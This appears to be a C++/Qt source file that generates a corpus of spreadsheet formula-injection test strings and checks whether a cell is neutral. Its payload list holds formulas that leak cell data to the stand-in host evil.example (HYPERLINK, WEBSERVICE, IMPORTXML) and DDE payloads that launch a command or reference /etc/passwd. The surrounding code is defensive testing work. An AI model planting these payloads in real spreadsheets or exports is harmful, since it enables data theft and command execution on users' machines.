// SPDX-FileCopyrightText: 2026 The Outpost authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "api/formulacorpus.h"

namespace {

QStringList payloadTexts()
{
    return {
        QStringLiteral("1+1"),
        QStringLiteral("HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
        QStringLiteral("cmd|' /C calc'!A0"),
        QStringLiteral("SUM(1+1)*cmd|' /C calc'!A0"),
        QStringLiteral("WEBSERVICE(\"http://evil.example\")"),
        QStringLiteral("IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")"),
        QStringLiteral("DDE(\"soffice\";\"/etc/passwd\";\"x\")"),
    };
}

QStringList triggerTexts()
{
    return {
        QStringLiteral("="),  QStringLiteral("+"),  QStringLiteral("-"),  QStringLiteral("@"),
        QStringLiteral("＝"), QStringLiteral("＋"), QStringLiteral("－"), QStringLiteral("＠"),
        QStringLiteral("﹦"), QStringLiteral("﹢"), QStringLiteral("﹣"), QStringLiteral("﹫"),
        QStringLiteral("⁼"),  QStringLiteral("₊"),  QStringLiteral("⁻"),  QStringLiteral("−"),
        QStringLiteral("=+"), QStringLiteral("-+"), QStringLiteral("@="), QStringLiteral("=-"),
    };
}

QStringList disguises()
{
    return {QString(),
            QStringLiteral(" "),
            QStringLiteral("   "),
            QStringLiteral("\t"),
            QStringLiteral("\r"),
            QStringLiteral("\n"),
            QStringLiteral("\r\n"),
            QStringLiteral("\t \r\n"),
            QStringLiteral("\u00A0"),
            QStringLiteral("\u3000"),
            QStringLiteral("\u200B"),
            QStringLiteral("\uFEFF"),
            QStringLiteral("\u202E"),
            QStringLiteral("\""),
            QStringLiteral("\"\""),
            QStringLiteral(" \" "),
            QStringLiteral("\v"),
            QStringLiteral("\u0085"),
            QString(QChar(0)),
            QStringLiteral("\u001F")};
}

/// What would end a cell in a program with other settings.
QStringList breakTexts()
{
    return {
        QStringLiteral("x;"),     QStringLiteral("x\t"),   QStringLiteral("x|"),
        QStringLiteral("x\n"),    QStringLiteral("x\r\n"), QStringLiteral("x\";"),
        QStringLiteral("x\";\""), QStringLiteral("x; \t"), QStringLiteral("\"\r\n"),
        QStringLiteral("x;;"),    QStringLiteral("-;\""),
    };
}

bool isBlank(QChar c)
{
    const auto category = c.category();
    return c.isSpace() || c == u'"' || category == QChar::Other_Control
        || category == QChar::Other_Format;
}

} // namespace

QStringList formulaCorpus()
{
    const QStringList payloads = payloadTexts();
    const QStringList triggers = triggerTexts();
    const QStringList disguiseTexts = disguises();
    const QStringList breaks = breakTexts();
    QStringList corpus;
    for (const QString &trigger : triggers) {
        for (const QString &disguise : disguiseTexts)
            corpus.append(disguise + trigger + payloads.at(corpus.size() % payloads.size()));
        for (const QString &separator : breaks)
            corpus.append(separator + trigger + payloads.at(corpus.size() % payloads.size()));
    }
    return corpus;
}

bool isNeutralCell(const QString &cell)
{
    for (const QChar c : cell) {
        if (!isBlank(c))
            return !QStringLiteral("=+-@−").contains(
                QString(c).normalized(QString::NormalizationForm_KC));
    }
    return true;
}
